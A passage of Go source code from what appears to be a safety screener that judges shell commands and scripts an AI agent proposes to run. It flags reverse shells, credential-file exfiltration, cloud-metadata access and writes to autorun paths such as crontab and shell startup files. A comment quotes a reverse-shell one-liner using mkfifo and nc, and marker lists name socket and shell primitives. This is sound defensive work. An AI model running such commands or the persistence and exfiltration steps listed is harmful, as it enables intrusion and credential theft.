		s.code(n, c.Stdin, true)
	}
	// A shell whose output goes to a socket and whose input comes from
	// one (mkfifo f; sh -i <f | nc host 4444 >f).
	if shellnorm.IsShell(n) {
		for j := i + 1; j < len(s.l.Commands); j++ {
			if d := s.l.Commands[j]; d.PipedFrom == i && netCommands[name(d.Run())] {
				s.add(ReverseShell, true, fmt.Sprintf("%s's output is piped to %s: a shell driven over the network", n, name(d.Run())))
			}
		}
	}
}

// code judges code given to the interpreter n: one that wires a shell
// to a socket (when shells), or opens a credential file and reaches the
// network.
func (s *screen) code(n, raw string, shells bool) {
	code := strings.ToLower(raw)
	if shells && containsAny(code, socketMarkers) && containsAny(code, shellMarkers) {
		s.add(ReverseShell, true, fmt.Sprintf("%s is given code that connects a shell to a network socket", n))
	}
	if reachesNetwork(code) {
		s.r.Network = true
		if opensFile(code) {
			// Code that opens a file and reaches the network sends the
			// file itself: nothing of it passes through the agent.
			var sent []string
			for _, p := range quotedPaths(raw) {
				sent = append(sent, s.pathSource(p))
			}
			s.secretSent(n, "the network", sent)
		}
	}
}

func reachesNetwork(code string) bool {
	return strings.Contains(code, "://") || strings.Contains(code, "socket") || strings.Contains(code, "urllib") ||
		strings.Contains(code, "requests.") || strings.Contains(code, "fetch(") || strings.Contains(code, "http.")
}

// programExts are the extensions of files an interpreter runs by name.
var programExts = map[string]string{".py": "python3", ".pyw": "python3", ".js": "node", ".mjs": "node", ".cjs": "node",
	".ts": "node", ".mts": "node", ".cts": "node", ".rb": "ruby", ".pl": "perl", ".pm": "perl", ".php": "php",
	".ps1": "pwsh", ".lua": "lua", ".tcl": "tclsh"}

// Program returns the interpreter that runs text written to path, by the
// path's extension or the text's #! line, when it is not a shell
// (Script), or "".
func Program(path, text string) string {
	line, _, _ := strings.Cut(strings.TrimSpace(text), "\n")
	if rest, ok := strings.CutPrefix(line, "#!"); ok {
		for _, w := range strings.Fields(rest) {
			if n := name([]string{w}); n != "env" && !strings.HasPrefix(w, "-") {
				if interpreter(n) && !shellnorm.IsShell(n) {
					return n
				}
				return ""
			}
		}
	}
	if Script(path, text) {
		return ""
	}
	p := strings.ToLower(path)
	if i := strings.LastIndexByte(p, '.'); i >= 0 && !strings.ContainsAny(p[i:], `/\`) {
		return programExts[p[i:]]
	}
	return ""
}

// ScreenProgram judges a program file as the code its interpreter n runs
// (python3 tools/sync.py) by the rules for inline code (python3 -c),
// statement by statement (a line): one that opens a credential file and
// sends it is refused as its -c form is. A file that opens a credential
// file in one statement and reaches the network in another is asked
// about: reading a key to call its own service is ordinary work, and
// so is sending the file in two steps.
func ScreenProgram(n, text string) Report {
	s := &screen{}
	for _, line := range strings.Split(text, "\n") {
		s.code(n, line, false)
	}
	// A program imports socket and subprocess for many honest ends; a
	// socket wired to the descriptors of a spawned shell has none.
	if l := strings.ToLower(text); containsAny(l, socketMarkers) && containsAny(l, []string{"dup2", "pty.spawn"}) {
		s.add(ReverseShell, true, fmt.Sprintf("%s is given code that connects a shell to a network socket", n))
	}
	if _, ok := s.r.Worst(); !ok && reachesNetwork(strings.ToLower(text)) && opensFile(strings.ToLower(text)) {
		for _, p := range quotedPaths(text) {
			if why := secretfile.Why(p); why != "" {
				s.add(Upload, false, fmt.Sprintf("%s opens %s (%s) and reaches the network", n, p, why))
				break
			}
		}
	}
	return s.r
}

// fetchedBy returns the fetching command whose output the command at i
// passes on (directly or through decoders and filters), or "".
func (s *screen) fetchedBy(i, depth int) string {
	if i < 0 || depth > 16 {
		return ""
	}
	c := s.l.Commands[i]
	n := name(c.Run())
	if fetchers[n] {
		return n
	}
	for _, subs := range c.Substituted {
		for _, j := range subs {
			if f := s.fetchedBy(j, depth+1); f != "" {
				return f
			}
		}
	}
	return s.fetchedBy(c.PipedFrom, depth+1)
}

// downloads notes the files a fetcher writes into: its output option's
// value, or where its output is redirected.
func (s *screen) downloads(c shellnorm.Command, words []string, n string) {
	out := []string{"--output", "--output-document", "-o"}
	if n == "wget" || n == "wget2" {
		out = append(out, "-O")
	}
	for j := 1; j < len(words); j++ {
		a := words[j]
		for _, o := range out {
			switch {
			case a == o && j+1 < len(words):
				s.r.Downloads = append(s.r.Downloads, words[j+1])
			case strings.HasPrefix(o, "--") && strings.HasPrefix(a, o+"="):
				s.r.Downloads = append(s.r.Downloads, a[len(o)+1:])
			}
		}
	}
	for _, r := range c.Redirects {
		if strings.HasPrefix(r, ">") && !strings.HasPrefix(r, ">&") {
			if t := strings.TrimLeft(r, ">|"); t != "" && t != "/dev/null" {
				s.r.Downloads = append(s.r.Downloads, t)
			}
		}
	}
}

// addresses judges the internal addresses the line names: a metadata
// service anywhere, or any internal address written in disguise.
func (s *screen) addresses() {
	text := s.l.Text()
	check := func(t ssrf.Target) {
		switch {
		case t.Kind == ssrf.Metadata:
			s.add(InternalAddress, true, "the command reaches "+t.Reason()+", which hands out this machine's cloud credentials")
		case t.Disguised != "":
			s.add(InternalAddress, true, "the command reaches "+t.Reason()+": an internal address written to pass for something else")
		}
	}
	for _, h := range ssrf.Find(text) {
		check(h.Target)
	}
	for _, c := range s.l.Commands {
		words := c.Run()
		if _, ok := netCommands[name(words)]; !ok {
			continue
		}
		for _, a := range words[1:] {
			if !strings.HasPrefix(a, "-") && !strings.Contains(a, "://") && hostLike(hostOf(a)) {
				if t, ok := ssrf.Host(hostOf(a)); ok {
					check(t)
				}
			}
		}
	}
}

func clip(s string) string {
	if r := []rune(s); len(r) > 160 {
		return string(r[:160]) + "…"
	}
	return s
}

// autorun are places whose files run without anyone asking: a crontab, a
// shell's startup files, service units, login items, git hooks.
var autorun = []struct{ part, what string }{
	{"/etc/cron", "a cron table (it runs on a schedule)"}, {"/var/spool/cron", "a cron table (it runs on a schedule)"},
	{"crontab", "a cron table (it runs on a schedule)"}, {"/.bashrc", "a shell startup file (it runs in every new shell)"},
	{"/.bash_profile", "a shell startup file (it runs in every new shell)"}, {"/.bash_login", "a shell startup file (it runs in every new shell)"},
	{"/.profile", "a shell startup file (it runs in every new shell)"}, {"/.zshrc", "a shell startup file (it runs in every new shell)"},
	{"/.zprofile", "a shell startup file (it runs in every new shell)"}, {"/.zshenv", "a shell startup file (it runs in every new shell)"},
	{"/.config/fish/config.fish", "a shell startup file (it runs in every new shell)"}, {"/etc/profile", "a shell startup file (it runs in every new shell)"},
	{"/etc/bash.bashrc", "a shell startup file (it runs in every new shell)"}, {"/etc/rc.local", "a boot script"},
	{"/etc/init.d/", "a boot script"}, {"/systemd/", "a service unit (it runs as a service)"},
	{"/.config/autostart/", "a login item"}, {"/launchagents/", "a login item"}, {"/launchdaemons/", "a boot service"},
	{"/.git/hooks/", "a git hook (it runs on git commands)"}, {"/etc/ld.so.preload", "a library preload (it runs in every program)"},
	{"/etc/sudoers", "the sudo rules"}, {"/.ssh/rc", "an SSH login script"},
	{"/.envrc", "a direnv file (it runs on entering the directory)"},
}

// RunsOnItsOwn says what a path is when a file written there runs
// without anyone running it, or "".
func RunsOnItsOwn(path string) string {
	p := strings.ToLower(strings.ReplaceAll(path, `\`, "/"))
	if !strings.HasPrefix(p, "/") {
		p = "/" + strings.TrimPrefix(p, "~/")
	}
	for _, a := range autorun {
		if strings.Contains(p, a.part) {
			return a.what
		}
	}
	return ""
}

// Script reports whether text written to path is a shell script: the
// path's extension says so, or the text starts with #!.
func Script(path, text string) bool {
	p := strings.ToLower(path)
	for _, ext := range []string{".sh", ".bash", ".zsh", ".ksh", ".command", ".bashrc", ".profile"} {
		if strings.HasSuffix(p, ext) {
			return true
		}
	}
	t := strings.TrimSpace(text)
	return strings.HasPrefix(t, "#!") && (strings.Contains(t[:min(len(t), 64)], "sh") || strings.Contains(t[:min(len(t), 64)], "env"))
}

// socketMarkers open a network connection in the languages agents run
// inline; shellMarkers start a shell or wire a process to a descriptor.
var (
	socketMarkers = []string{"socket", "fsockopen", "tcpclient", "net.connect", "net.dial", "/dev/tcp", "tcpsocket", "io::socket",
		"require('net')", `require("net")`, "node:net", "net.createconnection"}
	shellMarkers = []string{"subprocess", "pty", "/bin/sh", "/bin/bash", "cmd.exe", "dup2", "exec(", "spawn", "proc_open",
		"popen", "system(", "iex", "invoke-expression", "child_process"}
)

// opensFile reports whether inline code opens a local file: open( as a
// call of its own (not urlopen), or another language's file reader.
func opensFile(code string) bool {
	for rest := code; ; {
		k := strings.Index(rest, "open(")
		if k < 0 {
			break
		}
		if k == 0 || !(rest[k-1] >= 'a' && rest[k-1] <= 'z' || rest[k-1] == '_') {
			return true
		}
		rest = rest[k+5:]
	}
	return containsAny(code, fileMarkers)
}

// fileMarkers read a local file in the languages agents run inline.
var fileMarkers = []string{"readfile", "read_text", "read_bytes", "file.read", "file_get_contents", "fs.read",
	"io.read", "slurp", "fopen", "get-content", "readalltext", "readallbytes", "createreadstream", "path(", "file::"}

// quotedPaths are the string literals of code that look like file paths.
func quotedPaths(code string) []string {
	var out []string
	for _, q := range []string{"'", `"`, "`"} {
		parts := strings.Split(code, q)
		for k := 1; k < len(parts); k += 2 {
			p := parts[k]
			if p == "" || len(p) > 256 || strings.Contains(p, "://") || strings.ContainsAny(p, " \n\t;(){}$") {
				continue
			}
			if strings.Contains(p, "/") || strings.HasPrefix(p, ".") || strings.LastIndexByte(p, '.') > 0 && len(p)-strings.LastIndexByte(p, '.') <= 6 {
				if !slices.Contains(out, p) {
					out = append(out, p)
				}
			}
		}
	}
	return out
}

func containsAny(s string, subs []string) bool {
	for _, sub := range subs {
		if strings.Contains(s, sub) {
			return true
		}
	}
	return false
}
